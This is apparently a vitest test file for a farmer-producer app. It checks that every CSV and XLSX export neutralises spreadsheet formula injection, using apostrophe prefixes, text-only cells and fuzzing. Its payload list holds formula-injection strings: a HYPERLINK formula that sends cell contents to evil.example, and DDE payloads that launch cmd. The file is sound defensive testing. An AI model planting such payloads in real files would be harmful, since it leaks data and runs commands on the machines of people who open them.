import * as XLSX from '@e965/xlsx';
import { csvLine, toCsv } from '@sangam/domain';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { farmers } from '../db/schema/farmers.ts';
import { createOperator } from './accounts.ts';
import { buildTestApp } from './build-test-app.ts';
import { clientFor } from './clients.ts';
import { fuzz } from './fuzz.ts';
import { spreadsheetNamespace, xlsxWithXml } from './spreadsheet-bombs.ts';
import { uploadSpreadsheet } from './uploads.ts';

/**
 * Every CSV and XLSX file Sangam writes, with cells that a spreadsheet would run as a formula (decision
 * 039). A CSV cell starting with = + - @ tab or CR is written with a leading apostrophe (`csvCell`);
 * an XLSX cell is a text cell, which Excel shows as typed and never runs. The exports: the farmer
 * report as CSV and XLSX, an upload's sheet as CSV, the members' dividends as CSV and the sample
 * farmer sheet; the rejected rows and a re-picked file's sheet are written in the browser by the same
 * `toCsv` (rejected-rows-csv.test.tsx in the web app checks the first). The values go straight into the database, as
 * an older version or an import could have left them: the export must not rely on the forms.
 */
const payloads = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1',
];
const trigger = /^[=+\-@\t\r]/;

/** The cells of a CSV as a spreadsheet splits them. */
const cellsOf = (csv: string) =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',', skipEmptyLines: 'greedy' }).data;

/** No cell may start a formula; each payload must be there, behind its apostrophe. */
const expectNeutralCsv = (csv: string, expected: string[]) => {
  const cells = cellsOf(csv).flat();
  expect(cells.filter((cell) => trigger.test(cell))).toEqual([]);
  for (const payload of expected) expect(cells, JSON.stringify(payload)).toContain(`'${payload}`);
};

/** Every cell of every sheet is text or a number, no formula, and each payload is there as typed. */
const expectNeutralXlsx = (file: Buffer, expected: string[]) => {
  const book = XLSX.read(file, { type: 'buffer', cellFormula: true, dense: true });
  const cells = book.SheetNames.flatMap((name) =>
    ((book.Sheets[name] as XLSX.WorkSheet & { '!data'?: XLSX.CellObject[][] })['!data'] ?? []).flat(),
  );
  expect(cells.filter((cell) => cell?.f !== undefined)).toEqual([]);
  expect(cells.filter((cell) => cell && cell.t !== 's' && cell.t !== 'n' && cell.t !== 'z')).toEqual([]);
  const texts = cells.filter((cell) => cell?.t === 's').map((cell) => cell.v);
  for (const payload of expected) expect(texts, JSON.stringify(payload)).toContain(payload);
  // And in the XML itself: no formula element in any sheet.
  const zip = XLSX.CFB.read(file, { type: 'buffer' });
  const sheets = zip.FileIndex.filter((entry: { name: string }) => /sheet\d+\.xml$/.test(entry.name));
  expect(sheets.length).toBeGreaterThan(0);
  for (const sheet of sheets)
    expect(Buffer.from(sheet.content as Uint8Array).toString()).not.toMatch(/<f[\s>]/);
};

describe('formula cells in every export', async () => {
  const testApp = await buildTestApp();
  const operator = await createOperator(testApp);
  const client = clientFor(testApp, operator.cookie);

  // One farmer per payload, the payload in every text field.
  await testApp.database.db.insert(farmers).values(
    payloads.map((payload, i) => ({
      fpoId: operator.fpoId,
      farmerName: payload,
      phoneNumber: `${payload}${i}`,
      acres: 2,
      gender: 'Male' as const,
      village: payload,
      block: payload,
      district: payload,
      state: payload,
      pincode: payload,
    })),
  );

  it('writes the farmer report CSV with every formula cell behind an apostrophe', async () => {
    const file = await client.get('/api/reports/farmers/export?days=30&format=csv');
    expect(file.statusCode, file.body).toBe(200);
    expectNeutralCsv(file.body, payloads);
  });

  it('writes the farmer report XLSX with text cells and no formula', async () => {
    const file = await client.get('/api/reports/farmers/export?days=30&format=xlsx');
    expect(file.statusCode, file.body).toBe(200);
    expectNeutralXlsx(file.rawPayload, payloads);
  });

  it('writes the members’ dividends CSV with every formula cell behind an apostrophe', async () => {
    const { items } = (await client.get('/api/farmers')).json() as { items: { id: string }[] };
    for (const farmer of items) {
      const member = await client.post('/api/members', {
        farmerId: farmer.id,
        shares: 10,
        paidUpCapital: 1000,
        joinedOn: '2024-04-01',
      });
      expect(member.statusCode, member.body).toBe(201);
    }
    const file = await client.get('/api/members/dividends.csv?netProfit=2,00,000');
    expect(file.statusCode, file.body).toBe(200);
    expectNeutralCsv(file.body, payloads);
  });

  it('writes an uploaded sheet back as CSV with every formula cell behind an apostrophe, CSV or XLSX', async () => {
    // Written by hand, quoted, so nothing of ours touches the cells on the way in.
    const quoted = (cells: string[]) => `${cells.map((c) => `"${c.replaceAll('"', '""')}"`).join(',')}\r\n`;
    const csvUpload = await uploadSpreadsheet(
      testApp,
      operator.cookie,
      'formulas.csv',
      Buffer.from(quoted(['Farmer Name', 'Village']) + payloads.map((p) => quoted([p, p])).join('')),
    );
    expect(csvUpload.statusCode, csvUpload.body).toBe(201);
    const fromCsv = await client.get(`/api/uploads/${csvUpload.json().id}/export.csv`);
    expect(fromCsv.statusCode, fromCsv.body).toBe(200);
    expectNeutralCsv(fromCsv.body, payloads);

    // An .xlsx with real formula cells and text cells that look like formulas.
    const escape = (text: string) =>
      text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
    const rows = payloads
      .map(
        (p, i) =>
          `<row r="${i + 2}"><c r="A${i + 2}" t="inlineStr"><is><t xml:space="preserve">${escape(p)}</t></is></c><c r="B${i + 2}" t="str"><f>${escape(p.replace(/^[=+\-@\s]+/, ''))}</f><v>${escape(p)}</v></c></row>`,
      )
      .join('');
    const sheet = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${spreadsheetNamespace}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>Farmer Name</t></is></c><c r="B1" t="inlineStr"><is><t>Village</t></is></c></row>${rows}</sheetData></worksheet>`;
    const xlsxUpload = await uploadSpreadsheet(testApp, operator.cookie, 'formulas.xlsx', xlsxWithXml(sheet));
    expect(xlsxUpload.statusCode, xlsxUpload.body).toBe(201);
    const fromXlsx = await client.get(`/api/uploads/${xlsxUpload.json().id}/export.csv`);
    expect(fromXlsx.statusCode, fromXlsx.body).toBe(200);
    // An XML reader reads the CR of a cell as a line break; every other payload arrives as written.
    expectNeutralCsv(
      fromXlsx.body,
      payloads.filter((p) => !p.startsWith('\r')),
    );
  });

  it('writes the sample farmer sheets without a cell that starts a formula', async () => {
    const csv = await client.get('/api/farmers/sample?format=csv');
    expect(csv.statusCode).toBe(200);
    expectNeutralCsv(csv.body, []);
    const xlsx = await client.get('/api/farmers/sample?format=xlsx');
    expect(xlsx.statusCode).toBe(200);
    expectNeutralXlsx(xlsx.rawPayload, []);
  });

  it('neutralises any text: every cell toCsv writes reads back as one cell, never starting a formula', async () => {
    await fuzz(
      'toCsv cells',
      fc.array(
        fc.oneof(
          fc.string({ unit: 'binary', maxLength: 30 }),
          fc
            .tuple(
              fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ' '),
              fc.string({ maxLength: 20 }),
            )
            .map(([a, b]) => a + b),
        ),
        { minLength: 2, maxLength: 6 },
      ),
      (row) => {
        const [cells] = cellsOf(csvLine(row));
        expect(cells).toEqual(row.map((cell) => (trigger.test(cell) ? `'${cell}` : cell)));
        expect(
          cellsOf(toCsv([row, row]))
            .flat()
            .filter((cell) => trigger.test(cell)),
        ).toEqual([]);
      },
      200,
    );
  });
});
